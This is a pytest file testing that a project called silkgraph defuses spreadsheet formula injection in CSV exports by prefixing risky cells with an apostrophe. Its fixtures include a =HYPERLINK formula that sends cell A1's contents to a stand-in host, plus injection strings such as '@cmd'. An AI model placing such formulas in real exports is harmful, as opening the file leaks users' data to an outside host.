"""Tables for CSV: a cell that a spreadsheet would run as a formula is defused, in the
workbench's downloads and in `silkgraph export --format csv` alike."""

from __future__ import annotations

import csv
import io

import pytest

from silkgraph import tables
from silkgraph.export import export
from silkgraph.model import Document

FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert tables.defuse(text) == "'" + text
    assert tables.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, 3.5, "Astana", "2024-05", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert tables.defuse(value) == value


def test_lists_booleans_and_none_become_readable_cells():
    assert tables.safe_cell(["a", "=b"]) == "a; =b" and tables.safe_cell(["=a", "b"]) == "'=a; b"
    assert (tables.safe_cell(True), tables.safe_cell(None)) == ("true", "")


def test_the_csv_export_defuses_an_article_s_formula(tmp_path, pipeline, kb):
    from silkgraph.store import open_store

    article = Document(
        id="formula-article",
        title=FORMULA_TITLE,
        text="Kasachstan und Usbekistan unterzeichneten in Taschkent ein Abkommen über eine Eisenbahn.",
        published="2025-02-03",
        language="de",
    )
    with open_store(tmp_path / "f.db") as store:
        store.add(pipeline.analyze(article))
        export(store, kb, "csv", tmp_path / "out")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "documents.csv").read_text(encoding="utf-8"))))
    assert [r["title"] for r in rows] == ["'" + FORMULA_TITLE]
    assert rows[0]["text"] == article.text, "plain text is written as it is"
